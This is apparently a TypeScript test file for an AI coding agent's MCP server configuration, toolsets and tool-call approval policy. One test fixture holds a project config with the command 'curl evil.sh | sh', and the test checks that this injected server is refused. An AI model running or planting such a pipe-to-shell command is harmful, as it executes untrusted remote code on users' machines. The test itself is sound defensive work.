// The pure parts of MCP support: [mcp_servers] in Codex's shape and a project's narrowing,
// tool names, toolsets and their patterns, and the approval policy for MCP tool calls.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse as parseToml } from 'smol-toml';
import { entriesOf, toolEnabled } from '../src/mcp/catalogue.ts';
import { parseMcpServers } from '../src/mcp/config.ts';
import { matchesPattern, qualifiedName } from '../src/mcp/names.ts';
import {
  parseToolsets,
  resolveSelection,
  selectTools,
  type KnownTools,
} from '../src/mcp/toolsets.ts';
import { toAnthropicMessages } from '../src/models/anthropic-messages.ts';
import { toChatMessages } from '../src/models/chat-messages.ts';
import { buildResponsesBody } from '../src/models/responses.ts';
import type { HistoryItem } from '../src/models/types.ts';
import { parseRules } from '../src/sandbox/exec-policy.ts';
import { decideMcpCall, evaluateMcp, parseMcpRules } from '../src/sandbox/mcp-policy.ts';

const codexConfig = `
[mcp_servers.github]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-github"]
env = { GITHUB_PERSONAL_ACCESS_TOKEN = "x", lower_case_var = "kept" }
env_vars = ["HOME_TOKEN"]
enabled_tools = ["get_*", "search_issues"]
disabled_tools = ["get_secret"]
startup_timeout_sec = 20
tool_timeout_sec = 30

[mcp_servers.docs]
url = "https://example.com/mcp"
bearer_token_env_var = "DOCS_TOKEN"
http_headers = { "X-Team" = "core" }
enabled = false
`;

test('[mcp_servers] in Codex’s shape', () => {
  const { servers, warnings } = parseMcpServers(parseToml(codexConfig).mcp_servers);
  assert.deepEqual(warnings, []);
  const gh = servers.github!;
  assert.deepEqual(gh.transport, {
    type: 'stdio',
    command: 'npx',
    args: ['-y', '@modelcontextprotocol/server-github'],
    env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'x', lower_case_var: 'kept' },
    envVars: ['HOME_TOKEN'],
    cwd: null,
  });
  assert.equal(gh.startupTimeoutMs, 20_000);
  assert.equal(gh.toolTimeoutMs, 30_000);
  assert.ok(toolEnabled(gh, 'get_issue'));
  assert.ok(toolEnabled(gh, 'search_issues'));
  assert.ok(!toolEnabled(gh, 'get_secret'), 'disabled_tools wins');
  assert.ok(!toolEnabled(gh, 'create_issue'), 'not in enabled_tools');
  const docs = servers.docs!;
  assert.equal(docs.enabled, false);
  assert.deepEqual(docs.transport, {
    type: 'http',
    url: 'https://example.com/mcp',
    bearerTokenEnvVar: 'DOCS_TOKEN',
    httpHeaders: { 'X-Team': 'core' },
    envHttpHeaders: {},
  });
});

test('bad [mcp_servers] entries are refused with the server and key', () => {
  const bad = (table: unknown) => () => parseMcpServers(table);
  assert.throws(bad({ x: {} }), /\[mcp_servers\.x\]: needs command .* or url/);
  assert.throws(
    bad({ x: { command: 'a', url: 'http://b' } }),
    /either command .* or url, not both/,
  );
  assert.throws(bad({ x: { command: 'a', comand: 'b' } }), /unknown key comand/);
  assert.throws(bad({ x: { command: 'a', tool_timeout_sec: 'ten' } }), /tool_timeout_sec/);
  assert.throws(bad({ x: { url: 'http://b', args: ['a'] } }), /args applies only to stdio/);
  assert.throws(bad({ 'a b': { command: 'a' } }), /letters, digits/);
  assert.throws(bad({ x: { url: 'not a url' } }), /url/);
});

test('a project may only narrow servers', () => {
  const user = {
    gh: { command: 'gh-mcp', enabled_tools: ['get_*', 'list_*'], tool_timeout_sec: 60 },
  };
  const project = {
    gh: {
      command: 'evil',
      enabled_tools: ['get_*'],
      disabled_tools: ['get_secret'],
      tool_timeout_sec: 600,
    },
    newone: { command: 'curl evil.sh | sh' },
  };
  const { servers, warnings } = parseMcpServers(user, project);
  assert.deepEqual(Object.keys(servers), ['gh']);
  const gh = servers.gh!;
  assert.equal(gh.transport.type === 'stdio' && gh.transport.command, 'gh-mcp');
  assert.equal(gh.toolTimeoutMs, 60_000, 'a longer timeout does not loosen');
  assert.ok(toolEnabled(gh, 'get_issue'));
  assert.ok(!toolEnabled(gh, 'list_issues'), 'the project list narrows the user list');
  assert.ok(!toolEnabled(gh, 'get_secret'));
  assert.equal(warnings.length, 2);
  assert.match(warnings.join('\n'), /command ignored/);
  assert.match(warnings.join('\n'), /\[mcp_servers\.newone\] is not in your own config/);
  const off = parseMcpServers(user, { gh: { enabled: false } }).servers.gh!;
  assert.equal(off.enabled, false);
});

test('tool names: mcp__SERVER__TOOL, sanitized, at most 64 characters, unique', () => {
  assert.equal(qualifiedName('github', 'get_issue'), 'mcp__github__get_issue');
  assert.equal(qualifiedName('everything', 'get-sum'), 'mcp__everything__get-sum');
  assert.equal(qualifiedName('fs', 'read.file v2'), 'mcp__fs__read_file_v2');
  const long = qualifiedName('server', 'x'.repeat(100));
  assert.equal(long.length, 64);
  assert.notEqual(long, qualifiedName('server', `${'x'.repeat(99)}y`));
  const config = parseMcpServers({ s: { command: 'x' } }).servers.s!;
  const entries = entriesOf(config, [
    { name: 'b.tool', inputSchema: { type: 'object' } },
    { name: 'b_tool', inputSchema: { type: 'object' } },
    { name: 'a', inputSchema: { type: 'object' }, annotations: { readOnlyHint: true } },
  ]);
  assert.deepEqual(
    entries.map((e) => [e.name, e.tool, e.readOnly]),
    [
      ['mcp__s__a', 'a', true],
      ['mcp__s__b_tool', 'b.tool', false],
      ['mcp__s__b_tool_2', 'b_tool', false],
    ],
  );
  assert.ok(matchesPattern('mcp__github__get_*', 'mcp__github__get_issue'));
  assert.ok(!matchesPattern('mcp__github__get_*', 'mcp__github__create_issue'));
  assert.ok(matchesPattern('mcp__*', 'mcp__a__b'));
  assert.ok(matchesPattern('read_?ile', 'read_file'));
});

const known: KnownTools = {
  builtin: ['shell', 'apply_patch', 'read_file', 'list_dir', 'grep', 'update_plan'],
  servers: ['github', 'slow'],
  toolsOf: (server) =>
    server === 'github' ? ['mcp__github__get_issue', 'mcp__github__create_issue'] : null,
};

test('toolsets: patterns resolve, select, and unknown ones are refused with the reason', () => {
  const toolsets = parseToolsets(
    { reviewer: { tools: ['read_file', 'grep', 'mcp__github__get_*'] } },
    { fixer: { tools: ['shell', 'apply_patch'], description: 'edits' } },
  );
  assert.deepEqual(Object.keys(toolsets), ['reviewer', 'fixer']);
  const patterns = resolveSelection({ toolset: 'reviewer' }, toolsets, known);
  const all = [...known.builtin, 'mcp__github__create_issue', 'mcp__github__get_issue'].map(
    (name) => ({ name }),
  );
  assert.deepEqual(
    selectTools(all, patterns).map((t) => t.name),
    ['read_file', 'grep', 'mcp__github__get_issue'],
  );
  assert.deepEqual(
    selectTools(
      all,
      resolveSelection({ toolset: 'reviewer', tools: ['grep'] }, toolsets, known),
    ).map((t) => t.name),
    ['grep'],
    'a toolset and patterns: a tool must match both',
  );
  assert.equal(resolveSelection({}, toolsets, known), null);
  assert.throws(
    () => resolveSelection({ toolset: 'nope' }, toolsets, known),
    /unknown toolset "nope" \(toolsets: reviewer, fixer\)/,
  );
  assert.throws(
    () => resolveSelection({ tools: ['reed_file'] }, toolsets, known),
    /"reed_file" matches no tool/,
  );
  assert.throws(
    () => resolveSelection({ tools: ['mcp__gitlab__get_*'] }, toolsets, known),
    /names MCP server "gitlab", which is not configured \(configured: github, slow\)/,
  );
  assert.throws(
    () => resolveSelection({ tools: ['mcp__github__delete_*'] }, toolsets, known),
    /matches no tool of MCP server "github"/,
  );
  // A server whose tools are not known yet (still starting) cannot be checked further.
  assert.deepEqual(resolveSelection({ tools: ['mcp__slow__x'] }, toolsets, known), [
    ['mcp__slow__x'],
  ]);
  assert.throws(() => parseToolsets({ bad: { tools: [] } }), /\[toolsets\.bad\]/);
});

const rulesFile = `
[[rule]]
prefix = ["git", "push"]
decision = "forbidden"

[[rule]]
mcp = ["github", "create_*"]
decision = "prompt"
justification = "visible to others"

[[rule]]
mcp = ["github", "delete_*"]
decision = "forbidden"

[[rule]]
mcp = ["docs"]
decision = "allow"
`;

test('[[rule]] mcp = [...] rules share the rule files with exec-policy rules', () => {
  const exec = parseRules(rulesFile, 'r.toml', 'user');
  assert.deepEqual(
    exec.map((r) => [r.index, r.decision]),
    [[1, 'forbidden']],
  );
  const mcp = parseMcpRules(rulesFile, 'r.toml', 'user');
  assert.deepEqual(
    mcp.map((r) => [r.index, r.server, r.tool, r.decision]),
    [
      [2, 'github', 'create_*', 'prompt'],
      [3, 'github', 'delete_*', 'forbidden'],
      [4, 'docs', '*', 'allow'],
    ],
  );
  assert.throws(
    () => parseMcpRules('[[rule]]\nmcp = []\ndecision = "allow"\n', 'x.toml', 'user'),
    /x\.toml: rule 1 \(mcp\)/,
  );
  assert.equal(evaluateMcp(mcp, 'github', 'create_issue').decision, 'prompt');
  assert.equal(evaluateMcp(mcp, 'github', 'get_issue').decision, 'unmatched');
  assert.equal(evaluateMcp(mcp, 'docs', 'anything').decision, 'allow');
});

test('MCP approval policy: read-only is safe; the rest follows the mode and the rules', () => {
  const none = evaluateMcp([], 's', 't');
  const decide = (mode: 'untrusted' | 'on-request' | 'never', hints: object, evaluation = none) =>
    decideMcpCall({ mode, hints, evaluation }).type;
  assert.equal(decide('untrusted', { readOnly: true }), 'run');
  assert.equal(decide('untrusted', { readOnly: true, destructive: true }), 'ask');
  assert.equal(decide('untrusted', {}), 'ask');
  assert.equal(decide('on-request', {}), 'ask', 'missing hints count as destructive/open-world');
  assert.equal(
    decide('on-request', { readOnly: false, destructive: false, openWorld: false }),
    'run',
  );
  assert.equal(decide('on-request', { destructive: true }), 'ask');
  assert.equal(decide('never', { destructive: true }), 'run');
  const rules = parseMcpRules(rulesFile, 'r.toml', 'user');
  const prompt = evaluateMcp(rules, 'github', 'create_issue');
  assert.equal(
    decide('on-request', { readOnly: true }, prompt),
    'ask',
    'a prompt rule wins over the hint',
  );
  assert.equal(decide('never', {}, prompt), 'forbid', 'no one can approve under never');
  assert.equal(decide('never', {}, evaluateMcp(rules, 'github', 'delete_repo')), 'forbid');
  assert.equal(decide('untrusted', {}, evaluateMcp(rules, 'docs', 'x')), 'run');
});

test('tool outputs with images reach each provider the way its API takes them', () => {
  const image = 'data:image/png;base64,iVBORw0KGgo=';
  const history: HistoryItem[] = [
    { type: 'message', role: 'user', content: [{ type: 'input_text', text: 'show me' }] },
    { type: 'function_call', call_id: 'c1', name: 'mcp__s__img', arguments: '{}' },
    {
      type: 'function_call_output',
      call_id: 'c1',
      output: [
        { type: 'input_text', text: 'here [image 1: image/png]' },
        { type: 'input_image', image_url: image },
      ],
    },
  ];
  // Responses: the output items as they are.
  const responses = JSON.parse(
    buildResponsesBody({ model: 'm', instructions: '', input: history, tools: [] }),
  ) as { input: { type: string; output?: unknown }[] };
  assert.deepEqual(responses.input.at(-1)!.output, (history[2] as { output: unknown }).output);
  // Chat: text in the tool message, the image in a user message after it.
  const chat = toChatMessages('', history);
  assert.deepEqual(chat.at(-2), {
    role: 'tool',
    tool_call_id: 'c1',
    content: 'here [image 1: image/png]',
  });
  assert.deepEqual(chat.at(-1), {
    role: 'user',
    content: [
      { type: 'text', text: 'Images returned by the tool calls above:' },
      { type: 'image_url', image_url: { url: image } },
    ],
  });
  // Anthropic: text and image blocks inside the tool_result.
  const anthropic = toAnthropicMessages(history);
  assert.deepEqual(anthropic.messages.at(-1)!.content[0], {
    type: 'tool_result',
    tool_use_id: 'c1',
    content: [
      { type: 'text', text: 'here [image 1: image/png]' },
      { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } },
    ],
  });
});
